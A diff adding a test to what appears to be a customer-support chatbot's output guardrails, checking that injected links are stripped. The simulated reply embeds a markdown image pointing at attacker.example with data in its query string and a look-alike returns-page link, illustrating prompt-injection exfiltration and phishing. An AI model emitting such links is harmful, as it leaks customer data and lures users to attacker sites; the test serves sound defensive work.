@@ -213,6 +213,30 @@ def test_an_unsupported_sentence_is_removed_and_the_supported_one_kept(settings,
     assert any("robots" in s for s in record.guards["support"]["removed"])
 
 
+def test_a_picture_or_a_foreign_link_the_model_writes_never_reaches_the_customer(settings, demo_service):
+    """Prompt-injection exfiltration: the customer's browser would fetch the picture and send what it names."""
+
+    def exfiltrate(messages: list[BaseMessage]) -> AIMessage | str:
+        reply = grounded_answer(messages)
+        if isinstance(reply, AIMessage) and reply.tool_calls:
+            text = reply.tool_calls[0]["args"]["text"]
+            return answer_call(
+                f"{text} ![ok](https://attacker.example/p.png?q=return+order). "
+                "Or start it at [our returns page](https://brightwell-returns.attacker.example/start) [1]."
+            )
+        return reply
+
+    svc, _ = _service(settings, demo_service, exfiltrate)
+    (turn,) = _ask(svc, "How do I return an item?")
+    assert turn.reply is not None and turn.outcome == "answered"
+    assert "attacker" not in turn.reply.content and re.search(r"\[1\]", turn.reply.content)
+    record = _record(settings, turn.message.id)
+    assert {(v["rail"], v["kind"]) for v in record.guards["output"]["removed"]} == {
+        ("link", "image"),
+        ("link", "link"),
+    }
+
+
 def test_agents_see_tokens_until_an_audited_reveal_and_other_roles_cannot_reveal(settings, demo_service):
     svc, _ = _service(settings, demo_service, grounded_answer)
     (turn,) = _ask(svc, f"I want to speak to a person. My email is {EMAIL}.")
